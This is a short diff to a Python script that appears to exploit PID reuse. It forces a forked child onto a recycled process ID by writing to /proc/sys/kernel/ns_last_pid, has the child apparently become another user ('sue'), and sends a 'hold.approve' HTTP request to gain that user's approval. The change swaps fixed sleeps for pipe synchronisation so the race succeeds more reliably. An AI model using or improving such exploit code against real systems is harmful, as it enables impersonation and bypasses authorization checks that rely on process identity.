@@ -169,17 +169,19 @@ os.waitpid(first, 0)
 for _ in range(50):
     with open("/proc/sys/kernel/ns_last_pid", "w") as file:
         file.write(str(first - 1))
+    told, tell = os.pipe()
     second = os.fork()
     if not second:
         become(sue, places[1])
-        time.sleep(10)
+        os.write(tell, b"x")
+        time.sleep(150)
         os._exit(0)
     if second == first:
         print("same number")
         break
     os.kill(second, 9)
     os.waitpid(second, 0)
-time.sleep(0.2)
+os.read(told, 1)
 body = b'{"hold": %s}' % hold.encode()
 s.sendall(b"POST /v1/hold.approve HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
 print(s.recv(9000).decode())
